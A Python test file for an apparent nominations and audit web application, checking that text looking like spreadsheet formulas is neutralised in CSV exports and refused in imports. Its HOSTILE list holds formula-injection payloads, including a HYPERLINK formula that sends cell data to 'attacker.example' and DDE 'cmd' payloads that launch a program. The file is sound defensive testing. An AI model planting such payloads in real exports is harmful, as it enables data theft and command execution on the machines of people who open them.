"""Text typed into the engine never runs as a formula in the auditor's spreadsheet, and imports refuse formulas."""

import csv
import io

import httpx

from models.domain.spreadsheet_cells import neutralised
from tests.demo import DemoProvince
from tests.test_bad_input import row_counts
from tests.test_history_import import HEADER, upload
from tests.year import AUDITOR, SECRETARY, Year, as_user, open_meeting

HOSTILE = ['=HYPERLINK("http://attacker.example/?x="&A1,"Xem")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
           "-2+3", "\t=1+1"]


def test_a_cell_that_would_run_is_shown_as_text_and_others_stay_as_they_are() -> None:
    assert [neutralised(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [neutralised(v) for v in ("Thiếu hồ sơ", "152/QĐ-UBND", "", 7, None)] == [
        "Thiếu hồ sơ", "152/QĐ-UBND", "", 7, None]


async def test_reasons_that_look_like_formulas_export_as_text(client: httpx.AsyncClient, demo: DemoProvince) -> None:
    year = Year()
    await open_meeting(client, demo, year)
    headers = await as_user(client, SECRETARY)
    for label, reason in zip(("flag_sct", "bk_nhung", "ttldxs_stc"), HOSTILE, strict=False):
        moved = await client.post(f"/nominations/{year.candidates[label]}/moves", headers=headers,
                                  json={"to_state": "on_hold", "reason": reason, "version": 1})
        assert moved.status_code == 201, moved.text
    exported = await client.get("/audit/transitions", params={"format": "csv"}, headers=await as_user(client, AUDITOR))
    reasons = [row["reason"] for row in csv.DictReader(io.StringIO(exported.text)) if row["to_state"] == "on_hold"]
    assert reasons == ["'" + r for r in HOSTILE[:3]]
    as_json = (await client.get("/audit/transitions", headers=await as_user(client, AUDITOR))).json()
    assert [t["reason"] for t in as_json if t["to_state"] == "on_hold"] == HOSTILE[:3], "the log keeps what was typed"


async def test_an_import_with_a_formula_cell_is_refused_and_imports_nothing(
    client: httpx.AsyncClient, demo: DemoProvince
) -> None:
    await as_user(client, SECRETARY)  # logging in is recorded: before counting
    before = await row_counts()
    response = await upload(client, HEADER + (
        "2024,TAP_THE_LAO_DONG_XUAT_SAC,SCT,,=HYPERLINK(\"http://x\")\n"
        "2025,CHIEN_SI_THI_DUA_CO_SO,SCT,@SUM(A1),05/QĐ-SCT\n"))
    assert response.status_code == 422
    assert [(e["field"], e["rule"]) for e in response.json()["errors"]][:2] == [
        ("rows.2.decision_number", "history.formula"), ("rows.3.person_name", "history.formula")]
    assert await row_counts() == before
